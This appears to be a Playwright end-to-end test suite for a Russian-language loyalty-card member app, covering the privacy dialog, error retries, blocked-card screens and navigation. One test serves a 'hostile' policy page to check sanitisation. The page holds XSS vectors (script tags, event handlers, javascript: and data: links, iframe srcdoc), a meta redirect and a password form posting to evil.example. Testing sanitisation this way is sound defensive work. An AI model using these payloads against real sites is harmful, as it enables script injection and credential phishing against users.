import { expect, type Page } from '@playwright/test';
import { expectNoAxeViolations } from './support/accessibility.ts';
import { desktop } from './support/browser.ts';
import { test } from './support/fixtures.ts';
import { signInAs } from './support/sign-in.ts';

const HOSTILE = `<!doctype html><html><head><title>Политика</title>
  <style>body { display: none }</style><script>window.hacked = 'script'</script>
  <meta http-equiv="refresh" content="0; url=https://evil.example/"></head>
  <body onload="window.hacked = 'load'"><main><h1>Заголовок</h1><h2>Раздел</h2>
  <p style="position: fixed; inset: 0" onclick="window.hacked = 'click'">Текст раздела.</p>
  <img src="/no/such.png" onerror="window.hacked = 'error'"><svg onload="window.hacked = 'svg'"></svg>
  <iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
  <form action="https://evil.example/"><input name="password"><button>Войти</button></form>
  <a href="javascript:window.hacked = 'link'">Ловушка</a>
  <a href="data:text/html,<script>opener.hacked = 'data'</script>">Данные</a>
  <a href="rules.html">Правила программы</a></main></body></html>`;

const policy = (page: Page) => page.getByRole('dialog', { name: 'Политика конфиденциальности' });
/** What comes to the profile late pushes the footer on, and a press that falls into that moment misses it. */
const openPolicy = (page: Page) =>
  expect(async () => {
    const link = page.getByRole('link', { name: 'Политика конфиденциальности' });
    // A dialog that came late lies over the link by now.
    if (!(await policy(page).isVisible())) await link.click({ timeout: 2000 });
    await expect(policy(page)).toBeVisible({ timeout: 2000 });
  }).toPass({ timeout: 120_000 });
const activeText = (page: Page) => page.evaluate(() => document.activeElement?.textContent ?? '');

test('[R2.31] a member reads the privacy policy over the screen and comes back to where he was', async ({
  page,
}) => {
  await signInAs(page, 'student');
  await openPolicy(page);
  await expect(policy(page).getByRole('heading', { name: '1. Кто обрабатывает' })).toBeVisible();
  await expect(page).toHaveURL('/my/');
  await expectNoAxeViolations(page);
  await page.keyboard.press('Escape');
  await expect(policy(page)).toHaveCount(0);
  await expect.poll(() => activeText(page)).toBe('Политика конфиденциальности');
});

test('[R2.31] a policy that does not come can be asked for again', async ({
  page,
  server,
  expectNetworkErrors,
}) => {
  expectNetworkErrors();
  await signInAs(page, 'student');
  await server.faults([{ match: 'GET /site/lp/privacy-common/', status: 500, body: '' }]);
  await openPolicy(page);
  await expect(policy(page).getByText('Не удалось загрузить контент политики')).toBeVisible();
  await server.clearFaults();
  await policy(page).getByRole('button', { name: 'Повторить' }).click();
  await expect(policy(page).getByRole('heading', { name: '1. Кто обрабатывает' })).toBeVisible();
});

test('[R10.6] [R10.3] a hostile policy page is only its text', async ({ page, server }) => {
  await server.faults([
    { match: 'GET /site/lp/privacy-common/', contentType: 'text/html', body: HOSTILE },
  ]);
  await signInAs(page, 'student');
  await openPolicy(page);
  const text = policy(page).getByText('Текст раздела.');
  await expect(text).toBeVisible();
  await text.click();
  for (const name of ['Ловушка', 'Данные']) {
    await policy(page).getByText(name).click();
    await expect(policy(page).getByText(name)).not.toHaveAttribute('href');
  }
  await expect(policy(page).getByRole('link', { name: 'Правила программы' })).toHaveAttribute(
    'href',
    `${server.origin}/site/lp/privacy-common/rules.html`,
  );
  await expect(
    policy(page).locator('img, iframe, form, input, style, script, [style]'),
  ).toHaveCount(0);
  await expect(policy(page).getByText('Заголовок')).toHaveCount(0);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(page.context().pages()).toHaveLength(1);
});

test('[R2.31] a message that comes while a dialog is open can be closed there', async ({
  page,
  server,
}) => {
  await signInAs(page, 'student');
  await expect(page.getByText('12 480').first()).toBeVisible();
  await openPolicy(page);
  await expect(policy(page).getByRole('heading', { name: '1. Кто обрабатывает' })).toBeVisible();
  const messages = policy(page).getByRole('region', { name: 'Сообщения' });
  const close = messages.getByRole('button', { name: 'Закрыть' }).first();
  const email = 'student@example.test';
  await expect(async () => {
    // Another one each time: a message that was missed is not told again.
    await server.sandbox('POST', 'operations', { email, type: 'DECREE', amount: 100 });
    await page.evaluate(() => window.dispatchEvent(new Event('online')));
    // The focus keeps it from leaving by itself.
    await close.focus({ timeout: 5000 });
  }).toPass({ timeout: 120_000 });
  await close.click();
  await expect(close).toHaveCount(0);
  await expect(policy(page)).toBeVisible();
  await server.sandbox('POST', 'reset', { email });
});

test('[R2.40] [R2.30] a member whose card is blocked reaches the support by the keyboard, and has no chat', async ({
  page,
}) => {
  await signInAs(page, 'card-blocked');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Карта временно заблокирована');
  await expect(page.getByRole('link', { name: 'Написать менеджеру' })).toHaveCount(0);
  await page.keyboard.press('Tab');
  await expect(page.getByRole('link', { name: 'К содержанию' })).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(page.getByRole('main')).toBeFocused();
  await page.keyboard.press('Tab');
  const mail = page.getByRole('link', { name: 'Написать в поддержку' });
  await expect(mail).toBeFocused();
  await expect(mail).toHaveAttribute('href', /^mailto:/);
  await page.keyboard.press('Tab');
  await expect(page.getByRole('main').getByRole('link', { name: /^8 800/ })).toBeFocused();
});

test('[R2.31] [R4.1] a member whose card is off learns what that means and whom to call', async ({
  page,
}) => {
  await signInAs(page, 'card-off');
  await page.getByRole('button', { name: 'Подробнее' }).click();
  const explanation = page.getByRole('dialog', { name: 'Карта отключена' });
  await explanation.getByRole('button', { name: 'Позвонить' }).click();
  const phones = page.getByRole('dialog', { name: 'Позвонить' });
  await expect(phones.getByRole('link', { name: /8 800/ })).toHaveAttribute('href', /^tel:8800/);
  await expectNoAxeViolations(page);
  await page.keyboard.press('Escape');
  await expect(phones).toHaveCount(0);
  await page.keyboard.press('Escape');
  await expect(explanation).toHaveCount(0);
});

test('[R2.30] the chat with the manager is under the pickup view, and never over the bar at the bottom', async ({
  page,
}) => {
  await signInAs(page, 'student');
  const chat = page.getByRole('link', { name: 'Написать менеджеру' });
  await expect(chat).toBeVisible();
  const bar = await page.getByRole('navigation', { name: 'Разделы' }).boundingBox();
  const box = await chat.boundingBox();
  expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThan(bar?.y ?? 0);
  await page.getByRole('button', { name: 'Код', exact: true }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  // What lies in the chat's place is the view.
  const isCovered = await page.evaluate(
    ([x, y]) => document.elementFromPoint(x ?? 0, y ?? 0)?.closest('dialog') !== null,
    [(box?.x ?? 0) + 20, (box?.y ?? 0) + 20],
  );
  expect(isCovered).toBe(true);
});

test('[R2.20] without open orders «Код» turns the loyalty card over to its own', async ({
  page,
}) => {
  await signInAs(page, 'poor');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.getByRole('button', { name: 'Код', exact: true }).click();
  await expect(page.getByRole('img', { name: /QR-код карты/ })).toBeVisible();
  await expect(page.getByRole('button', { name: 'Убрать' })).toBeFocused();
  await page.goto('/my/orders');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Заказы');
  await page.getByRole('button', { name: 'Код', exact: true }).click();
  await expect(page.getByRole('img', { name: /QR-код карты/ })).toBeVisible();
});

test('[R8.4] a part of the app that the server no longer has offers a reload, which helps', async ({
  openApp,
  profileDir,
  server,
  problems,
  expectNetworkErrors,
}) => {
  expectNetworkErrors();
  problems.allow(/dynamically imported module/);
  const { page } = await openApp(profileDir, { ...desktop, serviceWorkers: 'block' });
  await signInAs(page, 'student');
  await expect(page.getByText('12 480').first()).toBeVisible();
  await server.faults([{ match: 'GET /my/assets/Orders-.*js$', status: 404, body: '' }]);
  await page.getByRole('navigation').getByRole('link', { name: 'Заказы' }).click();
  const dialog = page.getByRole('dialog', { name: 'Ошибка' });
  await expect(dialog).toContainText('Страница устарела, пожалуйста обновите');
  await server.clearFaults();
  await dialog.getByRole('button', { name: 'обновить' }).click();
  await expect(page.getByRole('article').first()).toBeVisible();
});

test('[R2.31] [R8.4] a press on the privacy link is never lost: where its dialog cannot be had the page opens', async ({
  openApp,
  profileDir,
  server,
  problems,
  expectNetworkErrors,
}) => {
  expectNetworkErrors();
  problems.allow(/dynamically imported module/);
  const { page, context } = await openApp(profileDir, { ...desktop, serviceWorkers: 'block' });
  await server.faults([{ match: 'GET /my/assets/Overlays-.*js$', status: 404, body: '' }]);
  await signInAs(page, 'student');
  const link = page.getByRole('link', { name: 'Политика конфиденциальности' });
  await expect(link).not.toHaveAttribute('aria-haspopup');
  const opened = context.waitForEvent('page');
  await link.click();
  await (await opened).close();
  await server.clearFaults();
});

test('[R2.29] Back closes «More» alone, and leaves the screen only after that', async ({
  page,
}) => {
  await signInAs(page, 'student');
  await page.getByRole('link', { name: 'Заказы', exact: true }).first().click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Заказы');
  const more = page.getByRole('dialog', { name: 'Ещё' });
  const open = async () => {
    await page.getByRole('button', { name: 'Ещё', exact: true }).click();
    await expect(more).toBeVisible();
  };
  await open();
  await page.goBack();
  await expect(more).toHaveCount(0);
  await expect(page).toHaveURL('/my/orders');
  await open();
  await more.getByRole('button', { name: 'Закрыть' }).click();
  await expect(more).toHaveCount(0);
  await expect(page).toHaveURL('/my/orders');
  await page.goBack();
  await expect(page).toHaveURL('/my/');
});
